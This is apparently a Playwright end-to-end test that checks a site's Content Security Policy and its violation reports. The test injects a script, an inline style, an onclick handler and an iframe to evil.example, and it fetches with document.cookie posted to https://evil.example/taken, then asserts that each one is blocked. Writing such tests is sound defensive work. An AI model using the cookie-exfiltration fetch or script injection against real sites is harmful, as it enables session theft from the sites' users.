import { expect, open, test } from './fixtures.ts'

test.use({ expectedErrors: /Content Security Policy|net::ERR|Failed to fetch|violates/ })

test('the policy blocks injected scripts, resources and requests, every test would fail by a violation, and a report is sent (R246)', async ({
  page,
  violations,
}) => {
  await open(page, '/')
  // How the site handles a report: tests/worker/policy-reports.test.ts.
  const reports: string[] = []
  page.on('request', (request) => {
    if (request.url().endsWith('/v1/observations/csp')) reports.push(request.postData() ?? '')
  })
  await page.evaluate(async () => {
    const script = document.createElement('script')
    script.textContent = 'window.ran = true'
    document.body.append(script)
    const styled = document.createElement('p')
    styled.setAttribute('style', 'color: rgb(1, 2, 3)')
    styled.id = 'styled'
    document.body.append(styled)
    const pressed = document.createElement('button')
    pressed.setAttribute('onclick', 'window.ran = true')
    document.body.append(pressed)
    pressed.click()
    const frame = document.createElement('iframe')
    frame.src = 'https://evil.example/'
    document.body.append(frame)
    await fetch('https://evil.example/taken', { method: 'POST', body: document.cookie }).catch(() => {})
  })
  expect(await page.evaluate(() => 'ran' in window)).toBe(false)
  await expect(page.locator('#styled')).not.toHaveCSS('color', 'rgb(1, 2, 3)')
  const reported = () =>
    new Set(violations.flatMap((text) => /^securitypolicyviolation: ([\w-]+)/.exec(text)?.[1] ?? []))
  await expect
    .poll(reported)
    .toEqual(new Set(['script-src-elem', 'script-src-attr', 'style-src-attr', 'frame-src', 'connect-src']))
  // The same violation is in the console; one source is enough.
  expect(violations.some((text) => /violates the following Content Security Policy/.test(text))).toBe(true)
  violations.splice(0)
  await expect.poll(() => reports.join()).toContain('"frame-src"')
})
